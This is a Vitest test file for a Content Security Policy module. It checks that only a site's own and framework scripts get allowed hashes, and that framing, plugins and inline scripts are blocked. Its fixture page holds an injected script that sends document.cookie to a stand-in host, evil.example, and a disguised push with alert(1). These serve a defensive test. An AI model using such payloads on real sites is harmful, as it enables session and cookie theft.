import { createHash } from 'node:crypto'

import { describe, expect, it } from 'vitest'

import { allowedScriptHashes, documentPolicy } from './content-security-policy.mjs'

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
const own = 'document.documentElement.setAttribute("data-member","")'
const push = 'self.__next_f.push([1,"0:{\\"a\\":1}\\n"])'
const bootstrap = '(self.__next_f=self.__next_f||[]).push([0])'
const chunks = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"]});'
const injected = 'fetch("https://evil.example/?c="+document.cookie)'
const disguised = 'self.__next_f.push([1,"x"]);alert(1)'

const page = `<html><head><script>${own}</script><script src="/_next/static/chunks/x.js" async></script></head><body>
<div class="rich-text"><p>文章</p><script>${injected}</script><script>${disguised}</script></div>
<script type="application/ld+json">{"@type":"Organization"}</script>
<script id="_R_">${chunks}</script><script>${bootstrap}</script><script>${push}</script></body></html>`

describe('the policy of a page', () => {
  it("hashes the site's own scripts and the framework's data pushes, nothing else", () => {
    const hashes = allowedScriptHashes(page, new Set([own]))
    expect(hashes.sort()).toEqual([hash(own), hash(push), hash(bootstrap), hash(chunks)].sort())
    expect(hashes).not.toContain(hash(injected))
    expect(hashes).not.toContain(hash(disguised))
  })

  it('forbids framing by other sites, plugins and foreign scripts', () => {
    const policy = documentPolicy([hash(own)])
    expect(policy).toContain("frame-ancestors 'self'")
    expect(policy).toContain("object-src 'none'")
    expect(policy).toMatch(/script-src 'self' https:\/\/hm\.baidu\.com 'sha256-[^']+'/)
    expect(/script-src[^;]*unsafe-inline/.test(policy)).toBe(false)
  })
})
